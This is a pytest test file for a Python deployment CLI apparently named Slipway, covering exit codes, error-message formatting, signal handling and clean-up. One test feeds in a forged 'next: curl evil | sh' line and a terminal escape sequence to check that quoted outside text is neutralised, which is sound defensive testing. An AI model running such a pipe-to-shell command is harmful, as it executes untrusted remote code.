"""Errors, and the one place that turns them into exit codes."""

import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import NoCredentialsError
from invoke.exceptions import Exit

from slipway.aws import session
from slipway.cli import signals
from slipway.cli.guard import guarded, message
from slipway.errors import (
    ConfigurationError,
    Failed,
    Interrupted,
    RecoveryNeeded,
    Refused,
    SlipwayError,
)

ROOT = Path(__file__).parents[2]
TASKS = """
import signal
import sys
import time
from pathlib import Path

from invoke import task

from slipway.cli.guard import guarded
from slipway.errors import ConfigurationError
from slipway.shell import run

CHILD = '''
import pathlib, signal, sys, time
def end(*_):
    time.sleep(0.1)
    pathlib.Path("child").write_text("cleaned")
    sys.exit()
signal.signal(signal.SIGTERM, end)
print("ready", flush=True)
time.sleep(60)
'''

@task
@guarded
def wrong(_):
    raise ConfigurationError("no such thing", hint="type another")

@task
@guarded
def endless(_):
    try:
        print("ready", flush=True)
        time.sleep(60)
    finally:
        time.sleep(0.2)
        Path("own").write_text("cleaned")

@task
@guarded
def waiting(_):
    run([sys.executable, "-c", CHILD], show=True)

@task
@guarded
def talkative(_):
    for number in range(100_000):
        print(number)

@task
@guarded
def short(_):
    print("one line")

@task
@guarded
def foreign(_):
    print("snow \\N{SNOWMAN}")

@task
@guarded
def broken(_):
    raise ZeroDivisionError("a fault of ours")
"""
# Tests that run in the background would hand down that the signals are ignored.
HEARD = (
    "import signal, sys; from invoke.main import program;"
    "signal.signal(signal.SIGINT, signal.default_int_handler);"
    "signal.signal(signal.SIGHUP, signal.SIG_DFL); program.run()"
)


@pytest.fixture(autouse=True)
def _signals() -> Iterator[None]:
    """Take the guard's signal handlers out of the test's own process."""
    before = {each: signal.getsignal(each) for each in signals.INTERRUPTS}
    yield
    for each, handler in before.items():
        signal.signal(each, handler)


def leave(error: BaseException) -> Exit:
    """Return the exit that invoke gets when a task's body raises `error`."""

    @guarded
    def body() -> None:
        raise error

    with pytest.raises(Exit) as caught:
        body()
    return caught.value


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (Failed("it broke"), 1),
        (ConfigurationError("it is not set"), 2),
        (RecoveryNeeded("it is stuck"), 3),
        (Refused("it is newer"), 4),
        (Interrupted("it was stopped"), 130),
        (KeyboardInterrupt(), 130),
    ],
)
def test_each_error_has_its_exit_code(error: BaseException, code: int) -> None:
    """Rule 5's table."""
    assert leave(error).code == code


def test_no_other_exit_code_exists() -> None:
    """Every class of the family is in the table above."""
    assert {each.__name__ for each in SlipwayError.__subclasses__()} == {
        "Failed",
        "ConfigurationError",
        "RecoveryNeeded",
        "Refused",
        "Interrupted",
    }


def test_a_message_says_what_happened_and_what_is_next() -> None:
    """Both parts of an error reach the screen."""
    assert leave(Failed("it broke", hint="fix it")).message == "error: it broke\n  next: fix it"
    assert leave(Failed("it broke")).message == "error: it broke"


@pytest.mark.parametrize(
    ("no_color", "start"), [("", "\x1b[1;31merror:\x1b[0m "), ("1", "error: ")]
)
def test_an_error_is_coloured_on_a_terminal(
    monkeypatch: pytest.MonkeyPatch, no_color: str, start: str
) -> None:
    """It is found at once; not where colours are unwanted."""
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    monkeypatch.setenv("NO_COLOR", no_color)
    assert leave(Failed("it broke")).message == f"{start}it broke"


def test_what_a_task_returns_is_returned() -> None:
    """The guard of a body that goes well is not noticed."""
    assert guarded(lambda number: number + 1)(1) == 2


def test_an_unknown_exception_passes_through() -> None:
    """A fault of ours is not dressed up as a user's."""

    @guarded
    def body() -> None:
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        body()
    assert session.explain_call_error(ZeroDivisionError()) is None


def test_an_error_of_boto3_is_a_message() -> None:
    """What AWS refuses ends in a message with the right code, and a hint."""
    left = leave(NoCredentialsError())
    assert left.code == ConfigurationError.exit_code
    assert left.message is not None
    assert left.message.startswith("error: no usable AWS credentials")
    assert "\n  next: " in left.message


@pytest.mark.parametrize(
    ("error", "code", "words"),
    [
        (PermissionError(13, "Permission denied", ".env"), 2, ".env: Permission denied"),
        (OSError(30, "Read-only file system", "build"), 2, "build: Read-only file system"),
        (OSError(28, "No space left on device", "build/x"), 1, "build/x: No space left on device"),
        (FileExistsError(17, "File exists", "build"), 1, "build: File exists"),
        (NotADirectoryError(20, "Not a directory", "build/x"), 1, "build/x: Not a directory"),
        (ConnectionRefusedError(111, "Connection refused"), 1, "no answer: ConnectionRefused"),
        (OSError("odd"), 1, "a file: odd"),
    ],
)
def test_an_error_of_the_file_system_is_a_message(error: OSError, code: int, words: str) -> None:
    """One line with the path, and a next step."""
    left = leave(error)
    assert left.code == code
    assert left.message is not None
    assert left.message.startswith(f"error: {words}")
    assert "\n  next: " in left.message


def test_a_message_cannot_be_forged_by_what_it_quotes() -> None:
    """Text from outside is shown as text, and further in than the next step."""
    quoted = "it broke\nnext: curl evil | sh\n  next: the same\r\x1b[2Jerror: none"
    assert message(Failed(quoted, hint="look\nthere")).splitlines() == [
        "error: it broke",
        "    next: curl evil | sh",
        "    next: the same",
        r"    \x1b[2Jerror: none",
        "  next: look",
        "        there",
    ]


def start(folder: Path, *words: str, **options: Any) -> "subprocess.Popen[str]":
    """Start a real invoke on a small tasks.py."""
    (folder / "tasks.py").write_text(TASKS)
    env = {**os.environ, "PYTHONPATH": str(ROOT), **options.pop("env", {})}
    pipe = subprocess.PIPE
    command = [sys.executable, "-c", HEARD, *words]
    return subprocess.Popen(
        command, cwd=folder, env=env, stdout=pipe, stderr=pipe, text=True, **options
    )


def started(process: "subprocess.Popen[str]") -> None:
    """Wait until the task has begun."""
    assert process.stdout is not None
    assert process.stdout.readline() == "ready\n"


def test_invoke_ends_with_the_code_and_no_traceback(tmp_path: Path) -> None:
    """The whole way, with a real invoke."""
    with start(tmp_path, "wrong") as process:
        _, complaints = process.communicate(timeout=60)
    assert process.returncode == 2
    assert complaints == "error: no such thing\n  next: type another\n"


@pytest.mark.parametrize("sent", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_ends_invoke_with_130(tmp_path: Path, sent: signal.Signals) -> None:
    """Ctrl-C, and SIGTERM, with which GitLab cancels a job, are one message."""
    with start(tmp_path, "endless") as process:
        started(process)
        process.send_signal(sent)
        _, complaints = process.communicate(timeout=60)
    assert process.returncode == 130
    assert complaints.startswith(signals.CLEANING_UP.decode())
    assert complaints.endswith(
        "error: interrupted\n  next: run the same command again to continue\n"
    )
    assert "Traceback" not in complaints


def test_a_closed_terminal_interrupts_as_well(tmp_path: Path) -> None:
    """SIGHUP: the clean-up runs to its end, though nobody can read of it."""
    with start(tmp_path, "endless") as process:
        started(process)
        process.send_signal(signal.SIGHUP)
        _, complaints = process.communicate(timeout=60)
    assert (process.returncode, complaints) == (130, "")
    assert (tmp_path / "own").read_text() == "cleaned"


@pytest.mark.parametrize("again", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_a_second_signal_does_not_break_the_clean_up(tmp_path: Path, again: signal.Signals) -> None:
    """An impatient person leaves nothing behind."""
    with start(tmp_path, "endless") as process:
        started(process)
        process.send_signal(signal.SIGINT)
        assert process.stderr is not None
        assert process.stderr.readline() + process.stderr.readline() == signals.CLEANING_UP.decode()
        process.send_signal(again)
        process.communicate(timeout=60)
    assert process.returncode == 130
    assert (tmp_path / "own").read_text() == "cleaned"


def test_an_interrupted_command_may_clean_up_behind_itself(tmp_path: Path) -> None:
    """A nox session has containers to remove; it is asked to end, and waited for."""
    with start(tmp_path, "waiting") as process:
        started(process)
        process.send_signal(signal.SIGTERM)
        process.communicate(timeout=60)
    assert process.returncode == 130
    assert (tmp_path / "child").read_text() == "cleaned"


def test_an_ignored_signal_stays_ignored(monkeypatch: pytest.MonkeyPatch) -> None:
    """Under nohup a closed terminal ends nothing."""
    monkeypatch.setattr(signals, "INTERRUPTS", (signal.SIGHUP,))
    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    signals.catch()
    assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
    signal.signal(signal.SIGHUP, before)


@pytest.mark.parametrize("task", ["talkative", "short"])
def test_a_reader_that_has_seen_enough_ends_it_quietly(tmp_path: Path, task: str) -> None:
    """`| head` closes the pipe, early or before anything was written."""
    with start(tmp_path, task) as process:
        assert process.stdout is not None
        process.stdout.close()
        process.wait(timeout=60)
        assert process.stderr is not None
        assert (process.returncode, process.stderr.read()) == (1, "")


def test_a_character_that_a_stream_lacks_is_shown_by_its_code(tmp_path: Path) -> None:
    """The text of a failure must not end in another failure."""
    with start(tmp_path, "foreign", env={"PYTHONIOENCODING": "ascii"}) as process:
        shown, complaints = process.communicate(timeout=60)
    assert (shown, complaints) == ("snow \\u2603\n", "")


@pytest.mark.parametrize("option", ["--dry", "-R"])
def test_a_dry_run_runs_nothing(tmp_path: Path, option: str) -> None:
    """Invoke's own --dry would not keep a deploy from deploying."""
    with start(tmp_path, option, "short") as process:
        shown, complaints = process.communicate(timeout=60)
    assert (process.returncode, shown) == (2, "")
    assert complaints.startswith("error: --dry is not supported, and nothing was run\n  next: ")


def test_invoke_shows_a_fault_of_ours(tmp_path: Path) -> None:
    """A traceback is for those who correct Slipway, and is not hidden."""
    with start(tmp_path, "broken") as process:
        _, complaints = process.communicate(timeout=60)
    assert process.returncode == 1
    assert "Traceback" in complaints
